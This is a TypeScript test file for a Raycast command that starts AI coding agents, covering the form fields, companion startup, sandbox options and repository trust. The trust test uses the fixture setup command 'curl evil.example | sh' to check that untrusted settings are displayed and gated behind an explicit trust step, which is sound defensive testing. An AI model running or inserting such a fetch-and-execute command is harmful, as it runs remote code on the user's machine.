import fs from "node:fs/promises";
import { listAgents } from "../../src/core/records/records.js";
import { loadProjectSettings } from "../../src/core/foundation/project.js";
import StartAgent, { startRequest } from "../../src/commands/start-agent.js";
import { ADD_PROJECT } from "../../src/commands/lib/add-project.js";
import { eventually } from "../helpers/offrun.js";
import { render, type Screen } from "../helpers/raycast-api-render.js";
import { runtime } from "../helpers/raycast-api.js";
import { makeFaceSandbox, type FaceSandbox } from "./face-sandbox.js";

let sandbox: FaceSandbox;
beforeEach(async () => {
  sandbox = await makeFaceSandbox({
    files: { "README.md": "# demo\n", "src/retry.ts": "export const retryBackoffHelper = 1;\n" },
  });
});
afterEach(async () => {
  await sandbox.cleanup();
});

/** The Project dropdown's choices, sections included, in order. */
const projectChoices = (screen: Screen) =>
  screen.findAll("Form.Dropdown.Item", () => true, [screen.findField("project")]).map((i) => i.props.value);

test("the form offers the known project, every harness and the logins with their headroom", async () => {
  const screen = render(<StartAgent launchType={"userInitiated" as never} arguments={{}} />);
  await screen.waitFor(() => expect(projectChoices(screen)).toContain(sandbox.repo));
  // Add Project… comes last (test/commands/start-agent.first-use.test.tsx).
  expect(projectChoices(screen)).toEqual([sandbox.repo, ADD_PROJECT]);
  expect(screen.findField("prompt").props.autoFocus).toBe(true);
  const harnesses = screen.findField("harness").children.map((c) => c.props.value);
  expect(harnesses).toEqual(expect.arrayContaining(["claude", "codex", "gemini"]));
  const logins = screen.findField("account").children.map((c) => c.props.title);
  expect(logins[0]).toMatch(/^Most headroom: Claude · Default: quota unknown$/);
  expect(logins[1]).toBe("Claude · Default: quota unknown");
  // Submit is the primary action (⌘↵); Dictate follows with a key of its own.
  // Without whisper-cli (as here), Dictate says what to install instead (test/unit/core/dictation/dictate.test.ts).
  const titles = screen.actionsOf(screen.find("Form")).map((a) => a.props.title);
  expect(titles[0]).toBe("Start Agent");
  expect(["Dictate", "Show Dictation Setup"]).toContain(titles[1]);
  expect(titles).toHaveLength(2);
  screen.unmount();
});

test("submitting starts the agent through the companion, in its own worktree", async () => {
  const screen = render(<StartAgent launchType={"userInitiated" as never} arguments={{}} />);
  await screen.waitFor(() => expect(projectChoices(screen)).toContain(sandbox.repo));
  screen.setField("prompt", "fix the flaky upload test");
  await screen.settle();
  // No companion yet: the form never starts one behind the user's back; the toast offers it.
  await screen.press(screen.action(screen.find("Form"), "Start Agent"));
  const refused = await screen.waitFor(() => {
    const toast = runtime.toasts.at(-1)!;
    expect(toast.title).toBe("Could Not Start the Agent");
    return toast;
  });
  expect(refused.message).toContain("offrun companion install");
  expect(await listAgents(sandbox.repo)).toEqual([]);
  expect(refused.primaryAction?.title).toBe("Start Companion");
  refused.primaryAction!.onAction(refused);
  await screen.waitFor(() => expect(refused.title).toBe("Companion running"), 30_000);
  expect(refused.history).toEqual(expect.arrayContaining([expect.stringMatching(/Starting the companion/)]));

  await screen.press(screen.action(screen.find("Form"), "Start Agent"));
  const agents = await eventually(async () => {
    const list = await listAgents(sandbox.repo);
    return list.length > 0 ? list : undefined;
  });
  expect(agents[0]!.harness).toBe("claude");
  expect(agents[0]!.task).toBe("fix the flaky upload test");
  expect((await fs.stat(agents[0]!.worktree)).isDirectory()).toBe(true);
  await screen.waitFor(() => expect(runtime.toasts.at(-1)!.title).toBe(`Started ${agents[0]!.name}`));
  screen.unmount();
});

test("typed text passes through the project vocabulary", async () => {
  const screen = render(<StartAgent launchType={"userInitiated" as never} arguments={{}} />);
  await screen.waitFor(() => expect(projectChoices(screen)).toContain(sandbox.repo));
  await screen.settle(300);
  screen.setField("prompt", "make the retry backoff helper configurable");
  await screen.waitFor(() =>
    expect(screen.findField("prompt").props.value).toBe("make the `retryBackoffHelper` configurable"),
  );
  screen.unmount();
});

test("an empty task is refused before anything is sent", async () => {
  const screen = render(<StartAgent launchType={"userInitiated" as never} arguments={{}} />);
  await screen.waitFor(() => expect(projectChoices(screen)).toContain(sandbox.repo));
  await screen.press(screen.action(screen.find("Form"), "Start Agent"));
  await screen.waitFor(() => expect(screen.findField("prompt").props.error).toBe("The item is required"));
  expect(await listAgents(sandbox.repo)).toEqual([]);
  screen.unmount();
});

test("the request leaves the login to Offrun unless the user picked one", () => {
  const base = { prompt: " fix it ", project: "/p", harness: "codex", account: "", mode: "plan", name: "", base: "" };
  expect(startRequest(base)).toEqual({
    project: "/p",
    prompt: "fix it",
    harness: "codex",
    mode: "plan",
    name: undefined,
    base: undefined,
    account: undefined,
    sandbox: undefined,
  });
  expect(startRequest({ ...base, account: "work" }).account).toBe("work");
});

test("the sandbox is the project's choice unless the form says in or out", async () => {
  const base = { prompt: "fix it", project: "/p", harness: "", account: "", mode: "", name: "", base: "" };
  expect(startRequest({ ...base, sandbox: "" }).sandbox).toBeUndefined();
  expect(startRequest({ ...base, sandbox: "on" }).sandbox).toBe(true);
  expect(startRequest({ ...base, sandbox: "off" }).sandbox).toBe(false);
  const screen = render(<StartAgent launchType={"userInitiated" as never} arguments={{}} />);
  await screen.waitFor(() => expect(projectChoices(screen)).toContain(sandbox.repo));
  const choices = screen.findField("sandbox").children.map((c) => c.props.title);
  expect(choices).toEqual([
    "Project Default (outside)",
    "In the Sandbox (worktree, memory, login home, its hosts)",
    "Outside the Sandbox",
  ]);
  screen.unmount();
});

// A repository's settings that run something wait for the user's trust, in Raycast too (README.md#trust).
test("a repository whose setup is not trusted says so, shows what it would run, and trusts it from the form", async () => {
  await sandbox.cleanup();
  sandbox = await makeFaceSandbox({
    files: {
      "README.md": "# demo\n",
      ".offrun/config.json": JSON.stringify({ setup: [["sh", "-c", "curl evil.example | sh"]] }),
    },
  });
  const screen = render(<StartAgent launchType={"userInitiated" as never} arguments={{}} />);
  const note = await screen.waitFor(() => screen.find("Form.Description", (n) => n.props.title === "Not Trusted"));
  expect(note.props.text).toContain(
    "This repository's settings (setup) are not trusted yet: agents start without them.",
  );
  await screen.press(screen.action(screen.find("Form"), "Review Repository Settings"));
  const detail = await screen.waitFor(() => screen.find("Detail"));
  expect(detail.props.markdown).toContain("curl evil.example | sh");
  expect(detail.props.markdown).toContain("runs these commands in each new agent's worktree, outside any sandbox");
  await screen.press(screen.action(detail, "Trust These Settings"));
  await screen.waitFor(() => expect(runtime.toasts.at(-1)!.title).toBe("Repository Trusted"));
  expect((await loadProjectSettings(sandbox.repo)).trust.trusted).toBe(true);
  await screen.waitFor(() =>
    expect(screen.findAll("Form.Description", (n) => n.props.title === "Not Trusted")).toEqual([]),
  );
  screen.unmount();
});
